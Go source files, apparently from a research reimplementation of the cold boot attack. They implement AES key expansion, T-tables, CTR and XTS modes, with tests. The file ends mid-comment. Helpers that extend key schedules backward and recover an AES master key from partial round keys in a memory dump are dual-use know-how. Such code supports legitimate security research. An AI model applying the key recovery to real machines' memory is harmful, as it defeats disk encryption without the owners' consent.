// consecutive schedule words. window holds words w[start .. start+len-1]
// (absolute schedule indices); the window must contain at least nk words.
// This is the "partial key expansion" the attack runs against candidate
// descrambled blocks: no knowledge of earlier schedule words is required.
func ExtendForward(window []uint32, start int, v Variant, n int) []uint32 {
	nk := v.Nk()
	if len(window) < nk {
		panic(fmt.Sprintf("aes: ExtendForward window %d < Nk %d", len(window), nk))
	}
	// Work buffer: the last nk words plus room to grow.
	buf := make([]uint32, len(window), len(window)+n)
	copy(buf, window)
	out := make([]uint32, 0, n)
	for k := 0; k < n; k++ {
		i := start + len(buf) // absolute index of the word being produced
		next := buf[len(buf)-nk] ^ scheduleF(buf[len(buf)-1], i, nk)
		buf = append(buf, next)
		out = append(out, next)
	}
	return out
}

// ExtendBackward computes the n schedule words that precede a window of
// consecutive schedule words. window holds words w[start .. start+len-1];
// it must contain at least nk words, and start must be >= n (the schedule
// cannot be extended before word 0). The returned slice holds words
// w[start-n .. start-1] in ascending order.
//
// Backward extension is what lets the attack recover the *master* key (the
// head of the table) from any intact region of the schedule, even when the
// first round keys were lost to bit decay: w[i-Nk] = w[i] ^ f(w[i-1], i).
func ExtendBackward(window []uint32, start int, v Variant, n int) []uint32 {
	nk := v.Nk()
	if len(window) < nk {
		panic(fmt.Sprintf("aes: ExtendBackward window %d < Nk %d", len(window), nk))
	}
	if start < n {
		panic(fmt.Sprintf("aes: ExtendBackward start %d < n %d", start, n))
	}
	// buf[j] holds word start-n+j for j in [0, n+len(window)).
	buf := make([]uint32, n+len(window))
	copy(buf[n:], window)
	// Produce descending absolute indices i = start-1 ... start-n, where
	// w[i] = w[i+nk] ^ f(w[i+nk-1], i+nk). Computing in descending order
	// guarantees w[i+nk-1] is already known: for the first few steps it lies
	// in the window, and afterwards it is a word produced earlier... except
	// that descending production fills lower slots whose i+nk-1 may itself
	// be below the window. Descending order makes i+nk-1 >= i+nk-nk = i,
	// strictly greater than every index still unproduced, so it is known.
	for i := start - 1; i >= start-n; i-- {
		j := i - (start - n) // slot of w[i]
		buf[j] = buf[j+nk] ^ scheduleF(buf[j+nk-1], i+nk, nk)
	}
	return buf[:n]
}

// RecoverMasterKey reconstructs the original cipher key from any window of
// at least Nk consecutive schedule words located at absolute word index
// start. It extends the window backwards to word 0 and returns the first
// KeyBytes() bytes — the master key.
func RecoverMasterKey(window []uint32, start int, v Variant) []byte {
	nk := v.Nk()
	if len(window) < nk {
		panic(fmt.Sprintf("aes: RecoverMasterKey window %d < Nk %d", len(window), nk))
	}
	head := window[:nk]
	if start > 0 {
		n := start
		prefix := ExtendBackward(window, start, v, n)
		if len(prefix) >= nk {
			head = prefix[:nk]
		} else {
			combined := append(append([]uint32{}, prefix...), window...)
			head = combined[:nk]
		}
	}
	return WordsToBytes(head)
}
