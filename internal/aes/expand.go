package aes

import "fmt"

// Key schedule words are stored big-endian, matching FIPS-197: schedule word
// w[i] corresponds to bytes 4i..4i+3 of the round-key table as it appears in
// memory. BytesToWords / WordsToBytes convert between the in-memory byte
// layout (what a memory dump contains) and the word form used here.

// MaxScheduleWords and MaxScheduleBytes are the largest schedule dimensions
// of any variant (AES-256: 60 words, 240 bytes). The Into variants below and
// their callers size fixed scratch buffers with these so the per-candidate
// hot paths never allocate.
const (
	MaxScheduleWords = 60
	MaxScheduleBytes = 4 * MaxScheduleWords
)

// BytesToWords converts a byte slice (length divisible by 4) into big-endian
// schedule words.
func BytesToWords(b []byte) []uint32 {
	return BytesToWordsInto(make([]uint32, 0, len(b)/4), b)
}

// BytesToWordsInto appends the big-endian schedule words of b (length
// divisible by 4) to dst and returns the extended slice. With dst capacity
// >= len(b)/4 it does not allocate.
func BytesToWordsInto(dst []uint32, b []byte) []uint32 {
	if len(b)%4 != 0 {
		panic(fmt.Sprintf("aes: BytesToWords length %d not divisible by 4", len(b)))
	}
	for i := 0; i+4 <= len(b); i += 4 {
		dst = append(dst, uint32(b[i])<<24|uint32(b[i+1])<<16|uint32(b[i+2])<<8|uint32(b[i+3]))
	}
	return dst
}

// WordsToBytes converts schedule words back into the in-memory byte layout.
func WordsToBytes(w []uint32) []byte {
	return WordsToBytesInto(make([]byte, 0, 4*len(w)), w)
}

// WordsToBytesInto appends the in-memory byte layout of the schedule words to
// dst and returns the extended slice. With dst capacity >= 4*len(w) it does
// not allocate.
func WordsToBytesInto(dst []byte, w []uint32) []byte {
	for _, v := range w {
		dst = append(dst, byte(v>>24), byte(v>>16), byte(v>>8), byte(v))
	}
	return dst
}

// scheduleF computes the transformation applied to w[i-1] before it is XORed
// with w[i-Nk], as a function of the absolute schedule word index i.
func scheduleF(prev uint32, i, nk int) uint32 {
	switch {
	case i%nk == 0:
		return subWord(rotWord(prev)) ^ rcon(i/nk)
	case nk > 6 && i%nk == 4:
		return subWord(prev)
	default:
		return prev
	}
}

// variantForKey maps a raw key length to its AES variant.
func variantForKey(key []byte) Variant {
	switch len(key) {
	case 16:
		return AES128
	case 24:
		return AES192
	case 32:
		return AES256
	}
	panic(fmt.Sprintf("aes: invalid key length %d", len(key)))
}

// ExpandKey computes the full key schedule for key (16, 24, or 32 bytes),
// returning 4*(Nr+1) words. This is the table that disk-encryption software
// keeps in memory for the lifetime of a mounted volume — the attack target.
func ExpandKey(key []byte) []uint32 {
	v := variantForKey(key)
	return ExpandKeyInto(make([]uint32, 0, v.ScheduleWords()), key)
}

// ExpandKeyInto appends the full key schedule words for key to dst and
// returns the extended slice. With dst capacity >= MaxScheduleWords it does
// not allocate — this is what lets the repair flip loops re-derive thousands
// of candidate schedules on a fixed scratch buffer.
func ExpandKeyInto(dst []uint32, key []byte) []uint32 {
	v := variantForKey(key)
	nk := v.Nk()
	base := len(dst)
	dst = BytesToWordsInto(dst, key)
	for i := nk; i < v.ScheduleWords(); i++ {
		dst = append(dst, dst[base+i-nk]^scheduleF(dst[base+i-1], i, nk))
	}
	return dst
}

// ExpandKeyBytes is ExpandKey returning the in-memory byte layout of the
// schedule (e.g. 240 bytes for AES-256, 176 for AES-128).
func ExpandKeyBytes(key []byte) []byte {
	return ExpandKeyBytesInto(make([]byte, 0, variantForKey(key).ScheduleBytes()), key)
}

// ExpandKeyBytesInto appends the in-memory byte layout of key's full
// schedule to dst and returns the extended slice. With dst capacity >=
// MaxScheduleBytes it does not allocate.
func ExpandKeyBytesInto(dst []byte, key []byte) []byte {
	var w [MaxScheduleWords]uint32
	return WordsToBytesInto(dst, ExpandKeyInto(w[:0], key))
}

// ExtendForward computes the n schedule words that follow a window of
// consecutive schedule words. window holds words w[start .. start+len-1]
// (absolute schedule indices); the window must contain at least nk words.
// This is the "partial key expansion" the attack runs against candidate
// descrambled blocks: no knowledge of earlier schedule words is required.
func ExtendForward(window []uint32, start int, v Variant, n int) []uint32 {
	nk := v.Nk()
	if len(window) < nk {
		panic(fmt.Sprintf("aes: ExtendForward window %d < Nk %d", len(window), nk))
	}
	// Work buffer: the last nk words plus room to grow.
	buf := make([]uint32, len(window), len(window)+n)
	copy(buf, window)
	out := make([]uint32, 0, n)
	for k := 0; k < n; k++ {
		i := start + len(buf) // absolute index of the word being produced
		next := buf[len(buf)-nk] ^ scheduleF(buf[len(buf)-1], i, nk)
		buf = append(buf, next)
		out = append(out, next)
	}
	return out
}

// ExtendBackward computes the n schedule words that precede a window of
// consecutive schedule words. window holds words w[start .. start+len-1];
// it must contain at least nk words, and start must be >= n (the schedule
// cannot be extended before word 0). The returned slice holds words
// w[start-n .. start-1] in ascending order.
//
// Backward extension is what lets the attack recover the *master* key (the
// head of the table) from any intact region of the schedule, even when the
// first round keys were lost to bit decay: w[i-Nk] = w[i] ^ f(w[i-1], i).
func ExtendBackward(window []uint32, start int, v Variant, n int) []uint32 {
	nk := v.Nk()
	if len(window) < nk {
		panic(fmt.Sprintf("aes: ExtendBackward window %d < Nk %d", len(window), nk))
	}
	if start < n {
		panic(fmt.Sprintf("aes: ExtendBackward start %d < n %d", start, n))
	}
	// buf[j] holds word start-n+j for j in [0, n+len(window)).
	buf := make([]uint32, n+len(window))
	copy(buf[n:], window)
	// Produce descending absolute indices i = start-1 ... start-n, where
	// w[i] = w[i+nk] ^ f(w[i+nk-1], i+nk). Computing in descending order
	// guarantees w[i+nk-1] is already known: for the first few steps it lies
	// in the window, and afterwards it is a word produced earlier... except
	// that descending production fills lower slots whose i+nk-1 may itself
	// be below the window. Descending order makes i+nk-1 >= i+nk-nk = i,
	// strictly greater than every index still unproduced, so it is known.
	for i := start - 1; i >= start-n; i-- {
		j := i - (start - n) // slot of w[i]
		buf[j] = buf[j+nk] ^ scheduleF(buf[j+nk-1], i+nk, nk)
	}
	return buf[:n]
}

// RecoverMasterKey reconstructs the original cipher key from any window of
// at least Nk consecutive schedule words located at absolute word index
// start. It extends the window backwards to word 0 and returns the first
// KeyBytes() bytes — the master key.
func RecoverMasterKey(window []uint32, start int, v Variant) []byte {
	return RecoverMasterKeyInto(make([]byte, 0, v.KeyBytes()), window, start, v)
}

// RecoverMasterKeyInto is RecoverMasterKey appending the recovered master
// into dst and returning the extended slice. The backward extension runs on
// a fixed stack buffer (falling back to the heap only for windows past
// MaxScheduleWords, which no real schedule has), so with dst capacity >=
// KeyBytes() the recovery does not allocate.
func RecoverMasterKeyInto(dst []byte, window []uint32, start int, v Variant) []byte {
	nk := v.Nk()
	if len(window) < nk {
		panic(fmt.Sprintf("aes: RecoverMasterKey window %d < Nk %d", len(window), nk))
	}
	if start == 0 {
		return WordsToBytesInto(dst, window[:nk])
	}
	// buf[i] holds schedule word w[i] for i in [0, start+len(window)): the
	// window in place, earlier words produced by the descending backward
	// recurrence w[i] = w[i+nk] ^ f(w[i+nk-1], i+nk) (see ExtendBackward).
	var stack [MaxScheduleWords]uint32
	buf := stack[:]
	if need := start + len(window); need > len(buf) {
		buf = make([]uint32, need)
	} else {
		buf = buf[:need]
	}
	copy(buf[start:], window)
	for i := start - 1; i >= 0; i-- {
		buf[i] = buf[i+nk] ^ scheduleF(buf[i+nk-1], i+nk, nk)
	}
	return WordsToBytesInto(dst, buf[:nk])
}
