package aes

import "fmt"

// Cipher is an expanded AES key ready for block encryption/decryption.
type Cipher struct {
	variant Variant
	enc     []uint32 // full schedule, word form
	dec     []uint32 // equivalent-inverse-cipher schedule (see ttable.go)
}

// NewCipher expands key (16/24/32 bytes) into a Cipher.
func NewCipher(key []byte) (*Cipher, error) {
	switch len(key) {
	case 16, 24, 32:
	default:
		return nil, fmt.Errorf("aes: invalid key length %d", len(key))
	}
	v := Variant(len(key) * 8)
	c := &Cipher{variant: v, enc: ExpandKey(key)}
	c.initDecKeys()
	return c, nil
}

// Variant returns which AES key size this cipher uses.
func (c *Cipher) Variant() Variant { return c.variant }

// Schedule returns the expanded key schedule words (read-only by convention).
func (c *Cipher) Schedule() []uint32 { return c.enc }

// BlockSize returns the AES block size (16).
func (c *Cipher) BlockSize() int { return BlockSize }

// state is the AES state: 4x4 bytes, s[r][c], column-major load order.
type state [4][4]byte

func loadState(src []byte) state {
	var s state
	for c := 0; c < 4; c++ {
		for r := 0; r < 4; r++ {
			s[r][c] = src[4*c+r]
		}
	}
	return s
}

func (s *state) store(dst []byte) {
	for c := 0; c < 4; c++ {
		for r := 0; r < 4; r++ {
			dst[4*c+r] = s[r][c]
		}
	}
}

func (s *state) addRoundKey(w []uint32) {
	for c := 0; c < 4; c++ {
		k := w[c]
		s[0][c] ^= byte(k >> 24)
		s[1][c] ^= byte(k >> 16)
		s[2][c] ^= byte(k >> 8)
		s[3][c] ^= byte(k)
	}
}

func (s *state) subBytes() {
	for r := 0; r < 4; r++ {
		for c := 0; c < 4; c++ {
			s[r][c] = sbox[s[r][c]]
		}
	}
}

func (s *state) invSubBytes() {
	for r := 0; r < 4; r++ {
		for c := 0; c < 4; c++ {
			s[r][c] = invSbox[s[r][c]]
		}
	}
}

func (s *state) shiftRows() {
	for r := 1; r < 4; r++ {
		var tmp [4]byte
		for c := 0; c < 4; c++ {
			tmp[c] = s[r][(c+r)%4]
		}
		s[r] = tmp
	}
}

func (s *state) invShiftRows() {
	for r := 1; r < 4; r++ {
		var tmp [4]byte
		for c := 0; c < 4; c++ {
			tmp[(c+r)%4] = s[r][c]
		}
		s[r] = tmp
	}
}

func (s *state) mixColumns() {
	for c := 0; c < 4; c++ {
		a0, a1, a2, a3 := s[0][c], s[1][c], s[2][c], s[3][c]
		s[0][c] = gmul(a0, 2) ^ gmul(a1, 3) ^ a2 ^ a3
		s[1][c] = a0 ^ gmul(a1, 2) ^ gmul(a2, 3) ^ a3
		s[2][c] = a0 ^ a1 ^ gmul(a2, 2) ^ gmul(a3, 3)
		s[3][c] = gmul(a0, 3) ^ a1 ^ a2 ^ gmul(a3, 2)
	}
}

func (s *state) invMixColumns() {
	for c := 0; c < 4; c++ {
		a0, a1, a2, a3 := s[0][c], s[1][c], s[2][c], s[3][c]
		s[0][c] = gmul(a0, 14) ^ gmul(a1, 11) ^ gmul(a2, 13) ^ gmul(a3, 9)
		s[1][c] = gmul(a0, 9) ^ gmul(a1, 14) ^ gmul(a2, 11) ^ gmul(a3, 13)
		s[2][c] = gmul(a0, 13) ^ gmul(a1, 9) ^ gmul(a2, 14) ^ gmul(a3, 11)
		s[3][c] = gmul(a0, 11) ^ gmul(a1, 13) ^ gmul(a2, 9) ^ gmul(a3, 14)
	}
}

// Encrypt encrypts one 16-byte block from src into dst (which may alias)
// using the T-table fast path; encryptRef is the field-arithmetic reference
// the tests check it against.
func (c *Cipher) Encrypt(dst, src []byte) {
	if len(src) < BlockSize || len(dst) < BlockSize {
		panic("aes: Encrypt input shorter than one block")
	}
	c.encryptFast(dst, src)
}

// encryptRef is the straightforward FIPS-197 reference implementation.
func (c *Cipher) encryptRef(dst, src []byte) {
	nr := c.variant.Rounds()
	s := loadState(src)
	s.addRoundKey(c.enc[0:4])
	for round := 1; round < nr; round++ {
		s.subBytes()
		s.shiftRows()
		s.mixColumns()
		s.addRoundKey(c.enc[4*round : 4*round+4])
	}
	s.subBytes()
	s.shiftRows()
	s.addRoundKey(c.enc[4*nr : 4*nr+4])
	s.store(dst)
}

// Decrypt decrypts one 16-byte block from src into dst (which may alias)
// using the T-table fast path; decryptRef is the reference.
func (c *Cipher) Decrypt(dst, src []byte) {
	if len(src) < BlockSize || len(dst) < BlockSize {
		panic("aes: Decrypt input shorter than one block")
	}
	c.decryptFast(dst, src)
}

// decryptRef is the straightforward FIPS-197 reference implementation.
func (c *Cipher) decryptRef(dst, src []byte) {
	nr := c.variant.Rounds()
	s := loadState(src)
	s.addRoundKey(c.enc[4*nr : 4*nr+4])
	for round := nr - 1; round >= 1; round-- {
		s.invShiftRows()
		s.invSubBytes()
		s.addRoundKey(c.enc[4*round : 4*round+4])
		s.invMixColumns()
	}
	s.invShiftRows()
	s.invSubBytes()
	s.addRoundKey(c.enc[0:4])
	s.store(dst)
}
