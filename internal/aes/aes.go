// Package aes is a from-scratch implementation of the AES block cipher
// (FIPS-197) with the specific extensions the cold boot attack needs:
//
//   - the full key expansion for AES-128/192/256 (the in-memory round-key
//     table that disk encryption software leaves resident in DRAM),
//   - partial key expansion: extending a window of consecutive schedule
//     words forwards OR backwards from an arbitrary round position, which is
//     what lets the attack verify a single 64-byte memory block without
//     descrambling its neighbours (Section III-C of the paper),
//   - CTR mode (the keystream construction evaluated as a scrambler
//     replacement in Section IV), and
//   - XTS mode (what VeraCrypt/TrueCrypt use for data encryption).
//
// The implementation favours clarity over speed but is fast enough that the
// attack-throughput benchmark is meaningful. Correctness is pinned to
// FIPS-197/NIST vectors and cross-checked against the Go standard library in
// the tests.
package aes

import "fmt"

// Variant identifies one of the three AES key sizes.
type Variant int

// The three standardized AES variants.
const (
	AES128 Variant = 128
	AES192 Variant = 192
	AES256 Variant = 256
)

// Nk returns the key length in 32-bit words.
func (v Variant) Nk() int {
	switch v {
	case AES128:
		return 4
	case AES192:
		return 6
	case AES256:
		return 8
	}
	panic(fmt.Sprintf("aes: invalid variant %d", v))
}

// Rounds returns the number of rounds Nr.
func (v Variant) Rounds() int {
	switch v {
	case AES128:
		return 10
	case AES192:
		return 12
	case AES256:
		return 14
	}
	panic(fmt.Sprintf("aes: invalid variant %d", v))
}

// KeyBytes returns the cipher key length in bytes.
func (v Variant) KeyBytes() int { return int(v) / 8 }

// ScheduleWords returns the number of 32-bit words in the full expanded key
// schedule: 4*(Nr+1).
func (v Variant) ScheduleWords() int { return 4 * (v.Rounds() + 1) }

// ScheduleBytes returns the size in bytes of the full expanded key schedule
// as it appears in memory (e.g. 240 bytes for AES-256).
func (v Variant) ScheduleBytes() int { return 4 * v.ScheduleWords() }

func (v Variant) String() string {
	return fmt.Sprintf("AES-%d", int(v))
}

// BlockSize is the AES block size in bytes.
const BlockSize = 16

// sbox and invSbox are generated at package init from the finite-field
// definition in FIPS-197 §5.1.1 rather than embedded as opaque literals;
// the known-answer tests validate specific entries and full vectors.
var sbox, invSbox [256]byte

func init() {
	// Build GF(2^8) exp/log tables over generator 3.
	var exp [256]byte
	var log [256]byte
	x := byte(1)
	for i := 0; i < 255; i++ {
		exp[i] = x
		log[x] = byte(i)
		// multiply x by 3 = x + 2x in GF(2^8)
		x ^= xtime(x)
	}
	inv := func(b byte) byte {
		if b == 0 {
			return 0
		}
		return exp[(255-int(log[b]))%255]
	}
	for i := 0; i < 256; i++ {
		b := inv(byte(i))
		// Affine transform: b ^ rotl(b,1) ^ rotl(b,2) ^ rotl(b,3) ^ rotl(b,4) ^ 0x63
		s := b ^ rotl8(b, 1) ^ rotl8(b, 2) ^ rotl8(b, 3) ^ rotl8(b, 4) ^ 0x63
		sbox[i] = s
		invSbox[s] = byte(i)
	}
}

func rotl8(b byte, n uint) byte { return b<<n | b>>(8-n) }

// xtime multiplies by x (i.e. 2) in GF(2^8) with the AES polynomial 0x11B.
func xtime(b byte) byte {
	v := b << 1
	if b&0x80 != 0 {
		v ^= 0x1B
	}
	return v
}

// gmul multiplies two field elements in GF(2^8).
func gmul(a, b byte) byte {
	var p byte
	for b != 0 {
		if b&1 != 0 {
			p ^= a
		}
		a = xtime(a)
		b >>= 1
	}
	return p
}

// SubByte applies the AES S-box to one byte.
func SubByte(b byte) byte { return sbox[b] }

// InvSubByte applies the inverse S-box to one byte.
func InvSubByte(b byte) byte { return invSbox[b] }

// subWord applies the S-box to each byte of a big-endian schedule word.
func subWord(w uint32) uint32 {
	return uint32(sbox[w>>24])<<24 | uint32(sbox[w>>16&0xFF])<<16 |
		uint32(sbox[w>>8&0xFF])<<8 | uint32(sbox[w&0xFF])
}

// rotWord rotates a schedule word left by one byte.
func rotWord(w uint32) uint32 { return w<<8 | w>>24 }

// rcon returns the round constant word for round i (1-based), i.e.
// {02^(i-1), 00, 00, 00}.
func rcon(i int) uint32 {
	c := byte(1)
	for ; i > 1; i-- {
		c = xtime(c)
	}
	return uint32(c) << 24
}
