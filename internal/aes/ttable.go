package aes

// T-table implementation: the software analogue of the paper's AES-NI
// acceleration of the key search, and of the lookup-table hardware design
// the synthesized engine uses ("AES rounds can be implemented with lookup
// tables, and this makes them amenable for faster designs"). Each te table
// folds SubBytes, ShiftRows, and MixColumns for one byte lane into a single
// 32-bit lookup; a round becomes 16 loads and 16 XORs.
//
// The straightforward field-arithmetic implementation in block.go is kept
// as the reference: the tests assert equivalence on random inputs, and the
// ablation benchmark quantifies the speedup (BenchmarkAblation*).

var te0, te1, te2, te3 [256]uint32
var td0, td1, td2, td3 [256]uint32

func init() {
	for i := 0; i < 256; i++ {
		s := sbox[i]
		s2 := xtime(s)
		s3 := s2 ^ s
		// Big-endian packing matching the column-word layout.
		te0[i] = uint32(s2)<<24 | uint32(s)<<16 | uint32(s)<<8 | uint32(s3)
		te1[i] = uint32(s3)<<24 | uint32(s2)<<16 | uint32(s)<<8 | uint32(s)
		te2[i] = uint32(s)<<24 | uint32(s3)<<16 | uint32(s2)<<8 | uint32(s)
		te3[i] = uint32(s)<<24 | uint32(s)<<16 | uint32(s3)<<8 | uint32(s2)

		is := invSbox[i]
		e := gmul(is, 14)
		b := gmul(is, 11)
		d := gmul(is, 13)
		n := gmul(is, 9)
		td0[i] = uint32(e)<<24 | uint32(n)<<16 | uint32(d)<<8 | uint32(b)
		td1[i] = uint32(b)<<24 | uint32(e)<<16 | uint32(n)<<8 | uint32(d)
		td2[i] = uint32(d)<<24 | uint32(b)<<16 | uint32(e)<<8 | uint32(n)
		td3[i] = uint32(n)<<24 | uint32(d)<<16 | uint32(b)<<8 | uint32(e)
	}
}

func loadWords(src []byte) (w0, w1, w2, w3 uint32) {
	w0 = uint32(src[0])<<24 | uint32(src[1])<<16 | uint32(src[2])<<8 | uint32(src[3])
	w1 = uint32(src[4])<<24 | uint32(src[5])<<16 | uint32(src[6])<<8 | uint32(src[7])
	w2 = uint32(src[8])<<24 | uint32(src[9])<<16 | uint32(src[10])<<8 | uint32(src[11])
	w3 = uint32(src[12])<<24 | uint32(src[13])<<16 | uint32(src[14])<<8 | uint32(src[15])
	return
}

func storeWords(dst []byte, w0, w1, w2, w3 uint32) {
	dst[0], dst[1], dst[2], dst[3] = byte(w0>>24), byte(w0>>16), byte(w0>>8), byte(w0)
	dst[4], dst[5], dst[6], dst[7] = byte(w1>>24), byte(w1>>16), byte(w1>>8), byte(w1)
	dst[8], dst[9], dst[10], dst[11] = byte(w2>>24), byte(w2>>16), byte(w2>>8), byte(w2)
	dst[12], dst[13], dst[14], dst[15] = byte(w3>>24), byte(w3>>16), byte(w3>>8), byte(w3)
}

// encryptFast is the T-table encryption path used by Cipher.Encrypt.
func (c *Cipher) encryptFast(dst, src []byte) {
	nr := c.variant.Rounds()
	rk := c.enc
	s0, s1, s2, s3 := loadWords(src)
	s0 ^= rk[0]
	s1 ^= rk[1]
	s2 ^= rk[2]
	s3 ^= rk[3]
	var t0, t1, t2, t3 uint32
	for r := 1; r < nr; r++ {
		k := rk[4*r:]
		t0 = te0[s0>>24] ^ te1[s1>>16&0xFF] ^ te2[s2>>8&0xFF] ^ te3[s3&0xFF] ^ k[0]
		t1 = te0[s1>>24] ^ te1[s2>>16&0xFF] ^ te2[s3>>8&0xFF] ^ te3[s0&0xFF] ^ k[1]
		t2 = te0[s2>>24] ^ te1[s3>>16&0xFF] ^ te2[s0>>8&0xFF] ^ te3[s1&0xFF] ^ k[2]
		t3 = te0[s3>>24] ^ te1[s0>>16&0xFF] ^ te2[s1>>8&0xFF] ^ te3[s2&0xFF] ^ k[3]
		s0, s1, s2, s3 = t0, t1, t2, t3
	}
	k := rk[4*nr:]
	t0 = uint32(sbox[s0>>24])<<24 | uint32(sbox[s1>>16&0xFF])<<16 | uint32(sbox[s2>>8&0xFF])<<8 | uint32(sbox[s3&0xFF])
	t1 = uint32(sbox[s1>>24])<<24 | uint32(sbox[s2>>16&0xFF])<<16 | uint32(sbox[s3>>8&0xFF])<<8 | uint32(sbox[s0&0xFF])
	t2 = uint32(sbox[s2>>24])<<24 | uint32(sbox[s3>>16&0xFF])<<16 | uint32(sbox[s0>>8&0xFF])<<8 | uint32(sbox[s1&0xFF])
	t3 = uint32(sbox[s3>>24])<<24 | uint32(sbox[s0>>16&0xFF])<<16 | uint32(sbox[s1>>8&0xFF])<<8 | uint32(sbox[s2&0xFF])
	storeWords(dst, t0^k[0], t1^k[1], t2^k[2], t3^k[3])
}

// decryptFast is the T-table decryption path used by Cipher.Decrypt.
// It uses the equivalent inverse cipher, which needs the decryption round
// keys (InvMixColumns applied to the middle round keys), computed lazily.
func (c *Cipher) decryptFast(dst, src []byte) {
	nr := c.variant.Rounds()
	if c.dec == nil {
		c.initDecKeys()
	}
	rk := c.dec
	s0, s1, s2, s3 := loadWords(src)
	s0 ^= rk[0]
	s1 ^= rk[1]
	s2 ^= rk[2]
	s3 ^= rk[3]
	var t0, t1, t2, t3 uint32
	for r := 1; r < nr; r++ {
		k := rk[4*r:]
		t0 = td0[s0>>24] ^ td1[s3>>16&0xFF] ^ td2[s2>>8&0xFF] ^ td3[s1&0xFF] ^ k[0]
		t1 = td0[s1>>24] ^ td1[s0>>16&0xFF] ^ td2[s3>>8&0xFF] ^ td3[s2&0xFF] ^ k[1]
		t2 = td0[s2>>24] ^ td1[s1>>16&0xFF] ^ td2[s0>>8&0xFF] ^ td3[s3&0xFF] ^ k[2]
		t3 = td0[s3>>24] ^ td1[s2>>16&0xFF] ^ td2[s1>>8&0xFF] ^ td3[s0&0xFF] ^ k[3]
		s0, s1, s2, s3 = t0, t1, t2, t3
	}
	k := rk[4*nr:]
	t0 = uint32(invSbox[s0>>24])<<24 | uint32(invSbox[s3>>16&0xFF])<<16 | uint32(invSbox[s2>>8&0xFF])<<8 | uint32(invSbox[s1&0xFF])
	t1 = uint32(invSbox[s1>>24])<<24 | uint32(invSbox[s0>>16&0xFF])<<16 | uint32(invSbox[s3>>8&0xFF])<<8 | uint32(invSbox[s2&0xFF])
	t2 = uint32(invSbox[s2>>24])<<24 | uint32(invSbox[s1>>16&0xFF])<<16 | uint32(invSbox[s0>>8&0xFF])<<8 | uint32(invSbox[s3&0xFF])
	t3 = uint32(invSbox[s3>>24])<<24 | uint32(invSbox[s2>>16&0xFF])<<16 | uint32(invSbox[s1>>8&0xFF])<<8 | uint32(invSbox[s0&0xFF])
	storeWords(dst, t0^k[0], t1^k[1], t2^k[2], t3^k[3])
}

// initDecKeys derives the equivalent-inverse-cipher round keys: the
// encryption schedule reversed per round, with InvMixColumns applied to
// every round key except the first and last.
func (c *Cipher) initDecKeys() {
	nr := c.variant.Rounds()
	dec := make([]uint32, len(c.enc))
	for r := 0; r <= nr; r++ {
		for i := 0; i < 4; i++ {
			w := c.enc[4*(nr-r)+i]
			if r != 0 && r != nr {
				w = invMixColumnWord(w)
			}
			dec[4*r+i] = w
		}
	}
	c.dec = dec
}

func invMixColumnWord(w uint32) uint32 {
	a0, a1, a2, a3 := byte(w>>24), byte(w>>16), byte(w>>8), byte(w)
	return uint32(gmul(a0, 14)^gmul(a1, 11)^gmul(a2, 13)^gmul(a3, 9))<<24 |
		uint32(gmul(a0, 9)^gmul(a1, 14)^gmul(a2, 11)^gmul(a3, 13))<<16 |
		uint32(gmul(a0, 13)^gmul(a1, 9)^gmul(a2, 14)^gmul(a3, 11))<<8 |
		uint32(gmul(a0, 11)^gmul(a1, 13)^gmul(a2, 9)^gmul(a3, 14))
}
