package aes

import (
	"bytes"
	"math/rand"
	"testing"
)

func TestXTSCiphertextStealingRoundTrip(t *testing.T) {
	rng := rand.New(rand.NewSource(61))
	key := make([]byte, 64)
	rng.Read(key)
	x, err := NewXTS(key)
	if err != nil {
		t.Fatal(err)
	}
	for n := 16; n <= 130; n++ {
		pt := make([]byte, n)
		rng.Read(pt)
		ct := make([]byte, n)
		x.EncryptUnit(ct, pt, uint64(n))
		if bytes.Equal(ct, pt) {
			t.Fatalf("len %d: identity encryption", n)
		}
		back := make([]byte, n)
		x.DecryptUnit(back, ct, uint64(n))
		if !bytes.Equal(back, pt) {
			t.Fatalf("len %d: CTS round trip failed", n)
		}
	}
}

func TestXTSUnitMatchesSectorOnMultiples(t *testing.T) {
	rng := rand.New(rand.NewSource(62))
	key := make([]byte, 64)
	rng.Read(key)
	x, _ := NewXTS(key)
	pt := make([]byte, 96)
	rng.Read(pt)
	a := make([]byte, 96)
	b := make([]byte, 96)
	x.EncryptUnit(a, pt, 9)
	x.EncryptSector(b, pt, 9)
	if !bytes.Equal(a, b) {
		t.Error("EncryptUnit diverges from EncryptSector on whole blocks")
	}
}

func TestXTSCTSFullBlocksUnchangedByTail(t *testing.T) {
	// The leading full blocks of a stolen-tail unit match the plain
	// sector encryption of the same prefix (same tweak sequence).
	rng := rand.New(rand.NewSource(63))
	key := make([]byte, 64)
	rng.Read(key)
	x, _ := NewXTS(key)
	pt := make([]byte, 57) // 3 full blocks + 9-byte tail
	rng.Read(pt)
	ct := make([]byte, 57)
	x.EncryptUnit(ct, pt, 3)
	ref := make([]byte, 32)
	x.EncryptSector(ref, pt[:32], 3)
	if !bytes.Equal(ct[:32], ref[:32]) {
		t.Error("leading full blocks altered by ciphertext stealing")
	}
}

func TestXTSUnitPanicsOnShortInput(t *testing.T) {
	x, _ := NewXTS(make([]byte, 64))
	defer func() {
		if recover() == nil {
			t.Fatal("expected panic")
		}
	}()
	x.EncryptUnit(make([]byte, 15), make([]byte, 15), 0)
}
