package aes

import (
	"encoding/binary"

	"coldboot/internal/bitutil"
)

// CTR implements AES in counter mode as the paper's Section IV uses it for
// memory encryption: the keystream for a 64-byte memory block is generated
// by encrypting four consecutive counter values derived from the block's
// physical address and a boot-time nonce, then XORed with the data. The
// counter layout is:
//
//	counter block = nonce (8 bytes) || physical-address counter (8 bytes)
//
// so each 16-byte sub-block of a memory line uses counter value
// addr/16 + i for i in 0..3.
type CTR struct {
	c     *Cipher
	nonce uint64
}

// NewCTR builds a CTR keystream generator from key and a boot-time nonce.
func NewCTR(key []byte, nonce uint64) (*CTR, error) {
	c, err := NewCipher(key)
	if err != nil {
		return nil, err
	}
	return &CTR{c: c, nonce: nonce}, nil
}

// Keystream fills dst with keystream starting at counter value ctr
// (one counter per 16-byte block; dst length must be a multiple of 16).
func (s *CTR) Keystream(dst []byte, ctr uint64) {
	if len(dst)%BlockSize != 0 {
		panic("aes: CTR keystream length must be a multiple of 16")
	}
	var block [BlockSize]byte
	for off := 0; off < len(dst); off += BlockSize {
		binary.BigEndian.PutUint64(block[0:8], s.nonce)
		binary.BigEndian.PutUint64(block[8:16], ctr)
		s.c.Encrypt(dst[off:off+BlockSize], block[:])
		ctr++
	}
}

// XORKeyStream encrypts (or decrypts) src into dst using counter values
// starting at ctr. dst and src may alias; length must be a multiple of 16.
//
// The keystream is generated one counter block at a time into a stack
// buffer and XORed with the word-level kernel, so the call allocates
